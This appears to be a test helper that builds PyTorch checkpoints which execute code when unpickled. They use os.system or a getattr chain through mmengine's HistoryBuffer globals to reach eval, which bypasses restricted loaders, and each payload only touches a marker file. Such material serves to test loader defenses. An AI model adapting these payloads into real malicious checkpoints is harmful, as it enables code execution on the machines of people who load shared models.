"""Files that run code when a pickle is loaded, harmless: they write a marker."""

import os

import torch
from mmengine.logging import HistoryBuffer


class Call:
    """Pickles as the call of a function; calls may be nested."""

    def __init__(self, function, *arguments):
        self.parts = function, arguments

    def __reduce__(self):
        return self.parts

    def __call__(self):
        """A pickle wants what it calls to be callable."""


def system(marker):
    return Call(os.system, f'touch {marker}')


def attributes(marker):
    """From a type that checkpoints hold, through getattr, to eval."""
    scope = Call(getattr, HistoryBuffer.update, '__globals__')
    builtins = Call(Call(getattr, scope, 'get'), '__builtins__')
    evaluate = Call(Call(getattr, builtins, 'get'), 'eval')
    return Call(evaluate, f'open({str(marker)!r}, "w")')


# How to write them: what is in them, and the arguments of torch.save.
KINDS = {
    'zip': (system, {}),
    'legacy': (system, dict(_use_new_zipfile_serialization=False)),
    'protocol 4': (system, dict(pickle_protocol=4)),
    'getattr': (attributes, {}),
    'getattr, legacy': (attributes, dict(_use_new_zipfile_serialization=False)),
}


def save(path, contents, marker, kind='zip'):
    """Write a checkpoint that also touches the marker when it is loaded."""
    make, options = KINDS[kind]
    torch.save(dict(contents, evil=make(marker)), path, **options)
    return path
